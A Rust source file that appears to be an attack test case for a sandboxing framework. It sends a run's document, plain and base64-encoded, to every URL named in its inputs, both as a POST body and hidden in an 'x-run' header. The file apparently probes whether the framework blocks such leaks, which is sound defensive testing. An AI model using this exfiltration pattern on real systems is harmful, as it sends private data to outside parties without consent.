//! Has the document of its run sent to whoever its inputs name, in every form and every place.

use guests::http::{DocumentForm, Header, HeaderValue, Part, Request, send};
use guests::misuse::{self, request};

guests::attack!(execute);

fn execute(run: guests::Run) -> guests::Ending {
    let step = guests::started("giving");
    for link in &run.links {
        guests::tell!(&step, "link: {} {}", link.name, link.href);
    }
    for (_, url) in guests::texts(&run).filter(|(key, _)| *key == "url") {
        for form in [
            DocumentForm::empty(),
            DocumentForm::BASE64,
            DocumentForm::WITHOUT_IMPLEMENTATION,
            DocumentForm::BASE64 | DocumentForm::WITHOUT_IMPLEMENTATION,
        ] {
            let body = vec![Part::RunDocument(form)];
            let sent = send(&Request { body, ..request("POST", url) });
            guests::tell!(&step, "body: {:?}", sent.as_ref().map(|response| response.status));
            if let Ok(response) = sent {
                misuse::repeat(&step, &response);
            }
        }
        let value = HeaderValue::Parts(vec![Part::RunDocument(DocumentForm::BASE64)]);
        let headers = vec![Header { name: "x-run".to_owned(), value }];
        let sent = send(&Request { headers, ..request("GET", url) });
        guests::tell!(&step, "header: {:?}", sent.map(|response| response.status));
    }
    Ok(guests::Verdict::Succeeded)
}
